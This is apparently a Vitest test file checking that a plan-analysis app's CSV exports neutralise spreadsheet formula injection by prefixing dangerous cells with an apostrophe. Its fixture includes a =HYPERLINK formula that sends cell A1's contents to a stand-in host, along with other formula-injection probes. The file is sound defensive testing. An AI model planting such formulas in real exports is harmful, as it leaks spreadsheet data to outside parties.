/**
 * A plan's text in a CSV export never runs as a spreadsheet formula: division lines are data
 * from outside, and `=HYPERLINK(…)` as a unit name reached Excel as a live formula.
 */
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { parseSnippet } from '../support/_plans';
import { completeRankings } from '../../web/src/data/rankings-betweenness';
import { localRankings } from '../../web/src/data/plan-source';
import { buildNetwork } from '../../web/src/graph/network-model';
import { exportGraph } from '../../web/src/export/export-graph';
import { edgeListCsv, toCsv, workloadCsv } from '../../web/src/export/to-csv';

const hostile = parseSnippet('1.建设项目。\n部门分工:=HYPERLINK("http://x.example/?q="&A1,"点击")牵头,@SUM(1+1)、+1+1、-2+3配合。\n', 'hostile');
const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;

describe('CSV cells that a spreadsheet would run', () => {
  it('the parser keeps the hostile names as units, so they reach the exports', () => {
    expect(hostile.units.map((u) => u.name).sort()).toEqual(['+1+1', '-2+3', '=HYPERLINK', '@SUM']);
  });

  it('are written as text in the workload ranking, and the numbers stay numbers', () => {
    const rows = cells(workloadCsv(completeRankings(hostile, localRankings(hostile)).workload));
    expect(rows.slice(1).map((r) => r[0]).sort()).toEqual(["'+1+1", "'-2+3", "'=HYPERLINK", "'@SUM"]);
    expect(rows.find((r) => r[0] === "'=HYPERLINK")).toEqual(["'=HYPERLINK", 'unknown', '1', '1', '0', '3', '3', '0']);
  });

  it('are written as text in the edge list', () => {
    const network = buildNetwork('collaboration', hostile, { sections: [], kinds: [], minShared: 1, roles: 'all' });
    const rows = cells(edgeListCsv(exportGraph(hostile, 'collaboration', network)));
    const names = new Set(rows.slice(1).flatMap((r) => [r[0], r[1]]));
    expect([...names].sort()).toEqual(["'+1+1", "'-2+3", "'=HYPERLINK", "'@SUM"]);
  });

  it.each([
    ['=HYPERLINK("http://x.example","点击")', `"'=HYPERLINK(""http://x.example"",""点击"")"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['省发展改革委', '省发展改革委'],
    ['a=b', 'a=b'],
  ])('%j is written as %s', (value, written) => {
    expect(toCsv(['x'], [[value]])).toBe(`\ufeffx\r\n${written}\r\n`);
  });

  it('leaves negative numbers of our own alone', () => {
    expect(toCsv(['x'], [[-2]])).toBe('\ufeffx\r\n-2\r\n');
  });
});
